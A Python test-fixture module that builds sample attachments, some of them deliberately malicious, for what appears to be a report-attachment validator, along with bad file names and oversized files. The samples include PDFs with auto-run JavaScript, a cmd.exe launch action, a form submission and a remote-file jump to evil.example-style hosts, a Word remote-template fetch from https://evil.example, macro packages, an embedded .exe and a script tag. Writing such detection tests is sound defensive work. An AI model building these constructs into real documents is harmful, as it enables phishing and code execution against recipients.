"""Attachments of every kind that something is wrong with, made small; and some that are right."""

import io
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path

import pikepdf
from pikepdf import Object
from PIL import Image
from PIL.ExifTags import GPS, IFD

from generator.findings.finding import Finding
from tests.generator.rules.minimal import KEY, WHOLE, YEAR, Change, check, write_report

_DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4">{}</svg>'


def picture(kind: str, mode: str = "RGB", size: tuple[int, int] = (64, 48)) -> bytes:
    """A picture of a kind (as Pillow calls it), of no one colour."""
    grey = Image.radial_gradient("L").resize(size)
    target = io.BytesIO()
    if mode == "I;16":
        deep = bytes(each for dot in grey.tobytes() for each in (dot, dot))
        Image.frombytes(mode, size, deep).save(target, kind)
    else:
        Image.merge("RGB", (grey, grey, grey)).convert(mode).save(target, kind)
    return target.getvalue()


def huge_picture() -> bytes:
    """A PNG that says it is ten thousand dots wide and high."""
    data = picture("PNG")
    head = data[12:16] + (10_000).to_bytes(4) * 2 + data[24:29]
    return data[:12] + head + zlib.crc32(head).to_bytes(4) + data[33:]


def package(*names: str) -> bytes:
    """A zip file with empty files in it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as opened:
        for name in names:
            opened.writestr(name, "")
    return target.getvalue()


def photograph(latitude: float, longitude: float) -> bytes:
    """A picture as telephones take them, with the place."""
    made, target = Image.new("RGB", (8, 8)), io.BytesIO()
    place = (exif := made.getexif()).get_ifd(IFD.GPSInfo)
    place |= {GPS.GPSLatitude: (latitude, 0.0, 0.0), GPS.GPSLongitude: (longitude, 0.0, 0.0)}
    made.save(target, "JPEG", exif=exif)
    return target.getvalue()


def fetching(relation: str) -> bytes:
    """A document of Word's with a relation to what lies elsewhere."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as opened:
        opened.writestr("word/document.xml", "")
        opened.writestr(
            "word/_rels/settings.xml.rels",
            f'<Relationships><Relationship Id="a" Type="http://x.example/{relation}" '
            'Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>',
        )
    return target.getvalue()


def document(*, packed: bool = True, **root: bytes) -> bytes:
    """A PDF of a blank page, its objects packed, with what else its catalogue has (as in PDFs)."""
    made, target = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    for key, value in root.items():
        made.Root[f"/{key}"] = Object.parse(value)
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    made.save(target, object_stream_mode=mode)
    return target.getvalue()


def carrying(name: str) -> bytes:
    """A PDF of a blank page with a file of this name within."""
    made, target = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    made.attachments[name] = b"a;b"
    made.save(target)
    return target.getvalue()


SCRIPT = rb"<</S/JavaScript/JS(app.alert\(1\))>>"
LAUNCH = b"<</S/Launch/F(cmd.exe)>>"
LOGIN = b"<!DOCTYPE html><title>Logg inn</title>"
# What is in a file, by its name; and the code and case that are found, empty where it is right.
FILES: Mapping[str, tuple[bytes, str, str]] = {
    "hel.pdf": (WHOLE.encode(), "", ""),
    "pakket.pdf": (document(), "", ""),
    "regner.pdf": (document(OpenAction=SCRIPT), "REF332", "script"),
    "navnet.pdf": (document(Names=b"<</JavaScript%b>>" % SCRIPT), "REF332", "script"),
    "omskrevet.pdf": (
        document(packed=False, OpenAction=SCRIPT).replace(b"/JavaScript", b"/J#61vaScript"),
        "REF332",
        "script",
    ),
    "starter.pdf": (document(AA=b"<</WC%b>>" % LAUNCH), "REF332", "launch"),
    "skjema.pdf": (document(AcroForm=b"<</XFA[(a)(b)]/Fields[]>>"), "REF332", "script"),
    "henter.pdf": (document(OpenAction=b"<</S/ImportData/F(x.fdf)>>"), "REF332", "launch"),
    "sender.pdf": (
        document(AA=b"<</WC<</S/SubmitForm/F(https://evil.example)>>>>"),
        "REF332",
        "sends",
    ),
    "film.pdf": (
        document(AA=rb"<</WC<</S/Rendition/JS(app.alert\(1\))>>>>"),
        "REF332",
        "script",
    ),
    "deling.pdf": (
        document(AA=rb"<</WC<</S/GoToR/F(\\\\evil\\x.pdf)/D[0/Fit]>>>>"),
        "REF332",
        "launch",
    ),
    "binders.pdf": (
        document(X=b"[<</Type/Filespec/F(x.exe)/EF<</F null>>>>]"),
        "REF332",
        "file",
    ),
    "nabo.pdf": (document(AA=b"<</WC<</S/GoToR/F(rapport.pdf)/D[0/Fit]>>>>"), "", ""),
    "fylt.pdf": (carrying("regnskap.exe"), "REF332", "file"),
    "data.pdf": (carrying("tall.csv"), "", ""),
    "telefon.jpg": (photograph(59.9, 10.7), "PRV104", ""),
    "hel.png": (picture("PNG"), "", ""),
    "HEL.JPG": (picture("JPEG"), "", ""),
    "hel.jpeg": (picture("JPEG", "CMYK"), "", ""),
    "hel.webp": (picture("WEBP"), "", ""),
    "hel.avif": (picture("AVIF"), "", ""),
    "hel.gif": (picture("GIF"), "", ""),
    "dyp.png": (picture("PNG", "I;16"), "", ""),
    "hel.svg": (_DRAWING.format("").encode(), "REF310", "refused"),
    "hel.docx": (package("word/document.xml"), "", ""),
    "makro.docx": (package("word/document.xml", "word/vbaProject.bin"), "REF332", "macros"),
    "makro.xlsx": (package("xl/workbook.xml", "xl/macrosheets/sheet1.xml"), "REF332", "macros"),
    "mal.docx": (fetching("attachedTemplate"), "REF332", "template"),
    "lenke.docx": (fetching("hyperlink"), "", ""),
    "hel.xlsx": (package("xl/workbook.xml"), "", ""),
    "tall.csv": ("år;tall\n".encode("cp1252"), "", ""),
    "utf16.csv": ("år;tall\n".encode("utf-16"), "", ""),
    "tom.pdf": (b"", "REF330", "empty"),
    "innlogging.pdf": (LOGIN, "REF330", "html"),
    "innlogging.csv": (LOGIN, "REF330", "html"),
    "side.txt": (b"\xef\xbb\xbf \n<ScRiPt>alert(1)</script>", "REF330", "html"),
    "begge.pdf": (b"<html><!--\n" + WHOLE.encode(), "REF330", "html"),
    "data.json": (b"<?xml version='1.0'?><x xmlns='a'/>", "REF330", "html"),
    "tegning.txt": (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "REF330", "drawing"),
    "mindre.txt": (b"<5 ansatte og <b5 andre", "", ""),
    "tekst.png": (b"Ikke et bilde", "REF330", "text"),
    "tekst.docx": (b"Ikke noe dokument", "REF330", "text"),
    "lfs.pdf": (b"version https://git-lfs.github.com/spec/v1\n", "REF330", "pointer"),
    "passord.xlsx": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), "REF330", "old_office"),
    "program.pdf": (b"MZ" + bytes(500), "REF330", "program"),
    "halv.pdf": (b"%PDF-1.7\n1 0 obj\n", "REF330", "broken"),
    "halv.docx": (package("word/document.xml")[:-9], "REF330", "broken"),
    "halv.xlsx": (b"PK\x03\x04" + bytes(50), "REF330", "broken"),
    "ukjent.pdf": (bytes(500), "REF330", "broken"),
    "foto.png": (picture("JPEG"), "REF330", "picture"),
    "IMG_1.jpg": (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "REF330", "converted"),
    "regneark.docx": (package("xl/workbook.xml"), "REF330", "other"),
    "bilde.pdf": (picture("PNG"), "REF330", "other"),
    "pakke.odt": (package("a.txt"), "REF330", "other"),
    "avkortet.jpg": (picture("JPEG")[:-200], "ACC912", "broken"),
    "avkortet.png": (picture("PNG")[:-200], "ACC912", "broken"),
    "diger.png": (huge_picture(), "ACC912", "huge"),
    "rar.webp": (b"RIFF\x10\x00\x00\x00WEBPxxxx" + bytes(9), "ACC912", "unknown"),
}
# Names that some system refuses, takes for another's, or leaves out.
NAMES: Mapping[str, tuple[str, str]] = {
    'Rapport "2023".pdf': ("SYN030", "character"),
    "a*b.pdf": ("SYN030", "character"),
    "Hva?.pdf": ("SYN030", "character"),
    "a|b.pdf": ("SYN030", "character"),
    "a<b>.pdf": ("SYN030", "character"),
    "kl. 12:30.pdf": ("SYN030", "character"),
    "a\udcff.pdf": ("SYN030", "unreadable"),
    ".skjult.pdf": ("SYN030", "hidden"),
    "slutt.": ("SYN030", "end"),
    "slutt ": ("SYN030", "end"),
    "con.pdf": ("SYN030", "device"),
    "AUX": ("SYN030", "device"),
    "nul.tar.gz": ("SYN030", "device"),
    "Plan.pdf": ("", ""),
    "plan.pdf": ("SYN031", "capitals"),
    "pa\u030a.pdf": ("", ""),
    "på.pdf": ("SYN031", "form"),
    f"{'lang' * 45}.pdf": ("SYN032", ""),
    "Etiske retningslinjer, 50 %: å #1 (2).pdf".replace(":", ""): ("", ""),
    "console.pdf": ("", ""),
}
SIZES: Mapping[str, tuple[int, str, str]] = {
    "liten.pdf": (25 * 1024**2, "", ""),
    "stor.pdf": (25 * 1024**2 + 1, "REF331", "browser"),
    "enorm.pdf": (100 * 1024**2 + 1, "REF331", "at_all"),
}


def attach(content: Path, files: Mapping[str, bytes]) -> tuple[Finding, ...]:
    """Write the smallest report with these attachments, all listed, and return what is found."""
    names = (name.encode("utf-8", "replace").decode() for name in files)
    entries = "".join(f"  - file: '{name}'\n    title: Et vedlegg\n" for name in names)
    listed = Change("report.yaml", f"attachments:\n{entries}")
    write_report(content, listed)
    folder = content / KEY / str(YEAR) / "attachments"
    folder.mkdir(exist_ok=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return check(content, listed)


def attach_large(content: Path, name: str, size: int) -> tuple[Finding, ...]:
    """The same with one PDF of a size, which takes no room on the disk."""
    attach(content, {name: WHOLE.encode()})
    with (content / KEY / str(YEAR) / "attachments" / name).open("r+b") as opened:
        opened.seek(size - len(WHOLE))
        opened.write(WHOLE.encode())
    return check(
        content,
        Change("report.yaml", f"attachments:\n  - {{file: {name}, title: Et stort vedlegg}}"),
    )


def find_all(content: Path) -> tuple[Finding, ...]:
    """What is found in all of these together."""
    files = {name: data for name, (data, _, _) in FILES.items()}
    names = {name: WHOLE.encode() for name in NAMES}
    sizes = (
        each
        for name, (size, code, _) in SIZES.items()
        if code
        for each in attach_large(content / name, name, size)
    )
    return (*attach(content / "files", files), *attach(content / "names", names), *sizes)
